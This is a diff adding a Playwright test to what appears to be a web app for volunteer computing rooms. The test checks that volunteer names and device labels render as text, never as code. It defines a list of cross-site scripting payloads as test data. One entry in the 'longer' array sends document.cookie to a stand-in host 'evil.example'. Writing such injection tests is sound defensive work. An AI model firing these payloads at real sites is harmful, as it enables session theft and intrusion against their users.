@@ -66,6 +66,90 @@ test("a page of another site cannot open a connection", async ({ page, coordinat
   expect(outcome).toBe("refused");
 });
 
+/** What would run if a name, a device or a reason became code anywhere. */
+const scripts = [
+  ...["<img src=x onerror=x()>", "<svg onload=x()>", "<script>x()</script>", "<b id=x>", "{{x()}}"],
+  ...["javascript:x()", "'-x()-'", '"onload="x()', "${x()}", "</title><script>", "&lt;script&gt;"],
+  ...["<iframe src=//x>", "<a href=javascript:x()>", "\u202e<img src=x>", "=HYPERLINK(x)", "<!--"],
+];
+const longer = [
+  '<img src=x onerror="document.title=1">',
+  '"><svg/onload=fetch("//evil.example/"+document.cookie)>',
+  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
+];
+
+test.describe("with many places", () => {
+  test.use({
+    run: { dataset: "shapes", settings: { rounds: 1, clients: 60, samplesPerClient: 32 } },
+  });
+
+  test("what strangers call themselves and their devices is text on every page, never code", async ({
+    page: host,
+    coordinator,
+    openTab,
+    context,
+  }) => {
+    const dialogs: string[] = [];
+    context.on("dialog", (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    await context.addInitScript(() => {
+      const seen: string[] = [];
+      Object.assign(window, { seen, x: () => seen.push("ran") });
+      addEventListener("securitypolicyviolation", (event) => seen.push(event.violatedDirective));
+    });
+    const { links } = coordinator;
+    await openHost(host, links);
+    const [tab, show, stranger] = [await openTab(), await openTab(), await openTab()];
+    await join(tab, links);
+    await show.goto(links.show);
+    await stranger.goto(links.join);
+    const names = Array.from({ length: 50 }, (_, i) => scripts[i % scripts.length]!);
+    await joinAs(stranger, names, longer);
+    await expect(host.getByText("51 in", { exact: true })).toBeVisible();
+    await expect(host.getByText("<img src=x onerror=x()>", { exact: true })).toBeVisible();
+    await expect(host.getByText("<script>x()</script>", { exact: true })).toBeVisible();
+    for (const page of [host, tab, show]) {
+      const found = await page.evaluate(() => ({
+        seen: (window as unknown as { seen: string[] }).seen,
+        planted: document.querySelectorAll("img[src=x], b#x, iframe, [onload], [onerror]").length,
+      }));
+      expect(found).toEqual({ seen: [], planted: 0 });
+    }
+    expect(dialogs).toEqual([]);
+  });
+});
+
+/** Volunteers with these names, each with a device that calls itself one of `labels`; they stay. */
+async function joinAs(
+  page: Page,
+  names: readonly string[],
+  labels: readonly string[],
+): Promise<void> {
+  await page.evaluate(
+    async ([all, devices]) => {
+      const { protocol } = (await (await fetch("/api/room")).json()) as { protocol: number };
+      const address = `${location.origin.replace("http", "ws")}/socket.io/?EIO=4&transport=websocket`;
+      const joinOne = (name: string, label: string) =>
+        new Promise<void>((resolve, reject) => {
+          const socket = new WebSocket(address);
+          const device = { kind: "cpu", label, executor: label.slice(0, 40), note: label };
+          const hello = { protocol, role: "volunteer", room: null, name, device };
+          socket.onopen = () => socket.send("40");
+          socket.onclose = () => reject(new Error(`${name} was not let in`));
+          socket.onmessage = ({ data }: MessageEvent<string>) => {
+            if (data === "2") socket.send("3");
+            else if (data.startsWith("40")) socket.send(`420["hello",${JSON.stringify(hello)}]`);
+            else if (data.startsWith('430[{"ok":true')) resolve();
+          };
+        });
+      for (const [i, name] of all.entries()) await joinOne(name, devices[i % devices.length]!);
+    },
+    [names, labels] as const,
+  );
+}
+
 /** Sends frames on a new connection; settles when it has ended, by whichever side. */
 async function sendTo(page: Page, frames: readonly string[]): Promise<void> {
   await page.evaluate(
